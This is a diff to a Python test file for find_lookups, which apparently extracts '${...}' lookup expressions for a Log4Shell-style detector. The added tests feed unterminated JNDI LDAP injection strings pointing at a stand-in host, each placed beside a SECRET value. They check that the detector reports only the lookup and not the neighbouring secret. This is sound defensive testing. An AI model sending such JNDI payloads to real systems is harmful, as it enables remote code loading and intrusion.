@@ -172,4 +172,19 @@ def test_how_deep_is_worked_out() -> None:
     ],
 )
 def test_escapes_are_undone_for_what_is_printable(escape: str, stands_for: str) -> None:
-    assert find_lookups(b"${env:A%b}" % escape.encode()) == (f"env:A{stands_for}",)
+    assert find_lookups(b"${env:A%b}" % escape.encode()) == (f"env:A{stands_for}".strip(),)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b'{"q":"${jndi:ldap://e.example/a","password":"SECRET"}',
+        b"q=${jndi:ldap://e.example/a&password=SECRET",
+        b"q=${jndi:ldap://e.example/a&password=SECRET&x=}",
+        b"q=${jndi:ldap://e.example/a;sid=SECRET",
+        b"<q a='${jndi:ldap://e.example/a'>SECRET</q>",
+        b"${jndi:ldap://e.example/a SECRET",
+    ],
+)
+def test_what_stands_beside_a_lookup_without_its_end_is_not_told(text: bytes) -> None:
+    assert find_lookups(text) == ("jndi:ldap://e.example/a",)
